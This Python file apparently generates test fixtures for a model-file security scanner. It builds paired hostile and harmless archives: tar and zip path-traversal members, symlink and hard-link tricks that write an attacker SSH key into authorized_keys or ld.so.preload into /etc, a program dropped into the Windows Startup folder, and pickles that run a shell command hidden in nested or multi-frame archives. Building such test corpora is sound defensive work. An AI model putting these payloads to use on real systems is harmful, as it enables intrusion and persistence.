"""Archives whose members leave the folder, and containers in which a second part is the hostile one."""
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

from assembly import call, dot, glob, model, pickle
from pair import SHELL
from twelfth.binaries import pe
from twelfth.weights import random

RUN = pickle(model(call(dot("shutil", "os", "system"), SHELL)))
CALM = pickle(model(call(glob("decimal", "Decimal"), "0.25")))
WEIGHTS = random(256).tobytes()


def tar(members, kind=tarfile.PAX_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=kind) as t:
        for name, data, fields in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            for key, value in fields.items():
                setattr(info, key, value)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, (2026, 5, 1, 0, 0, 0))
            z.writestr(info, data)
    return out.getvalue()


def unicode_path(path):
    """A member called weights.bin whose Info-ZIP Unicode path field (0x7075) says another name."""
    info = zipfile.ZipInfo("weights.bin", (2026, 5, 1, 0, 0, 0))
    body = struct.pack("<BI", 1, zlib.crc32(b"weights.bin")) + path.encode()
    info.extra = struct.pack("<HH", 0x7075, len(body)) + body
    return zipped([("config.json", b'{"model_type": "bert"}'), (info, WEIGHTS)])


def link(name, target):
    info = zipfile.ZipInfo(name, (2026, 5, 1, 0, 0, 0))
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return info, target.encode()


def seven(name, body):
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as z:
        z.writestr(body, name)
    return out.getvalue()


def add(out):
    import lz4.frame
    import zstandard

    out.add(
        "archives", "pax-path", tar([("weights.bin", WEIGHTS, {}), ("config.json", b"{}", {"pax_headers": {"path": "../marker.pth"}})]),
        tar([("weights.bin", WEIGHTS, {}), ("config.json", b"{}", {"pax_headers": {"path": "model/config.json"}})]), prove="twelfth-extract", file="model.tar",
        why="the extended header renames a harmless member to one outside of the folder, a start-up hook; proved by unpacking without a filter",
    )
    out.add(
        "archives", "link-then-write",
        tar([("cache", b"", {"type": tarfile.SYMTYPE, "linkname": ".."}), ("cache/marker.json", b"{}", {})]),
        tar([("cache", b"", {"type": tarfile.DIRTYPE, "mode": 0o755}), ("cache/marker.json", b"{}", {})]), prove="twelfth-extract", file="model.tar",
        why="a link to the folder above and a member below it: unpacking writes outside of the folder",
    )
    out.add(
        "archives", "hard-link-out",
        tar([("tokenizer.json", b"", {"type": tarfile.LNKTYPE, "linkname": "../../../../root/.ssh/authorized_keys"}), ("tokenizer.json", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallory m@x\n", {})], tarfile.USTAR_FORMAT),
        tar([("vocab.json", b"{}", {}), ("tokenizer.json", b"", {"type": tarfile.LNKTYPE, "linkname": "vocab.json"})], tarfile.USTAR_FORMAT), file="model.tar",
        why="a hard link to the user's authorized_keys, then a member of the same name that writes a key through it; not run, it names a file of a home folder",
    )
    out.add(
        "archives", "backslash-startup", zipped([("model/config.json", b"{}"), ("..\\..\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.exe", pe())]),
        zipped([("model/config.json", b"{}"), ("model\\weights.bin", WEIGHTS)]), file="model.zip",
        why="a member with backslashes leaves the folder on Windows and puts a program into the start-up folder",
    )
    out.add(
        "archives", "unicode-path-field", unicode_path("../../.config/autostart/update.desktop"), unicode_path("gewichte-größe.bin"), file="model.zip",
        why="unzippers that honour the Unicode path field write the member outside of the folder, under autostart; written by the Info-ZIP specification, not run",
    )
    out.add(
        "archives", "zip-link", zipped([("model/config.json", b"{}"), link("model/tokenizer", "/etc"), ("model/tokenizer/ld.so.preload", b"/var/lib/libx.so\n")]),
        zipped([("model/config.json", b"{}"), link("model/current", "config.json"), ("model/tokenizer/vocab.txt", b"a\nb\n")]), file="model.zip",
        why="a symbolic link to /etc and a member below it: an unzipper that keeps links writes ld.so.preload",
    )
    frames = lambda second: (
        struct.pack("<II", 0x184D2A53, 16) + b"checkpoint v2..." + zstandard.compress(pickle({"epoch": 1})) + zstandard.compress(second)
    )
    out.add(
        "archives", "second-frame", frames(RUN), frames(CALM), prove="twelfth-inner", file="state.pkl.zst",
        why="a skippable frame, a harmless pickle, and in a second zstd frame the pickle that runs a command",
    )
    nest = lambda body: zipped([("readme.txt", b"weights of May"), ("model.tar.lz4", lz4.frame.compress(tar([("a/card.md", b"# card", {}), ("a/state", lzma.compress(gzip.compress(seven("optimizer", body), mtime=0)), {})])))])
    out.add(
        "archives", "five-deep", nest(RUN), nest(CALM), prove="twelfth-inner", file="release.zip",
        why="a zip of an lz4 of a tar of an xz of a gzip of a 7z holds, without an extension, the pickle that runs a command",
    )
